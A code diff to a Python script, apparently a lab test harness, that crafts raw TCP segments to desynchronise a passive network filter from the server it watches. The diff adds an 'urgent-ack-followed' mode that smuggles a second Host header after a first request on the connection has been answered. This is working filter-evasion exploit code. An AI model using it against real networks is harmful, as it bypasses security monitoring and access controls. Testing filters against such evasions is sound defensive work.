@@ -4,12 +4,14 @@ never takes: it connects with an ordinary socket, reads the SYN-ACK off its own 
 server drops it for, waits until told the reader decided, then sends the real request, with
 another Host, at the same sequence numbers through its socket.
 
-    insert.py IFACE ADDR PORT MODE      MODE: bad-checksum | old-timestamp | urgent-ack
+    insert.py IFACE ADDR PORT MODE      MODE: bad-checksum | old-timestamp | urgent-ack | urgent-ack-followed
 Prints "inserted", reads a line from stdin, then prints the outcome as JSON.
 
 urgent-ack writes no data: a payload-less ACK with URG whose urgent pointer names a byte of the
 request the socket sends next (the X of "...allowed.test\r\nXHost: same-ip.test"), which the
-server's stack then takes out of the stream: one Host to the reader, two to the server."""
+server's stack then takes out of the stream: one Host to the reader, two to the server.
+urgent-ack-followed does the same after a first request on the connection was answered (the
+connection is followed: its later requests are judged)."""
 import json
 import socket
 import struct
@@ -62,10 +64,23 @@ if mode == "old-timestamp":
     options = b"\x01\x01\x08\x0a" + struct.pack("!II", (tsecr - 100000) & 0xffffffff, tsval_srv)
 doff = (20 + len(options)) // 4
 URGENT = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nXHost: same-ip.test\r\n\r\n"
+srv_next = srv_isn + 1
+if mode == "urgent-ack-followed":
+    FIRST = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: keep-alive\r\n\r\n"
+    s.sendall(FIRST)
+    answer = b""
+    while not answer.endswith(b"host=allowed.test"):
+        chunk = s.recv(4096)
+        assert chunk, f"the first request was not answered: {answer!r}"
+        answer += chunk
+    my_next += len(FIRST)
+    srv_next += len(answer)
+    mode = "urgent-ack"
 if mode == "urgent-ack":
     # ACK|URG, no payload; the urgent byte is seq + pointer - 1 (Linux, BSD semantics).
     ptr = URGENT.index(b"XHost") + 1
-    tcp = struct.pack("!HHIIBBHHH", sport, port, my_next, (srv_isn + 1) & 0xffffffff, doff << 4, 0x30, 65535, 0, ptr)
+    tcp = struct.pack("!HHIIBBHHH", sport, port, my_next & 0xffffffff, srv_next & 0xffffffff, doff << 4, 0x30, 65535, 0,
+                      ptr)
     BAD = URGENT
 else:
     tcp = struct.pack("!HHIIBBHHH", sport, port, my_next, (srv_isn + 1) & 0xffffffff, doff << 4, 0x18, 65535, 0, 0)
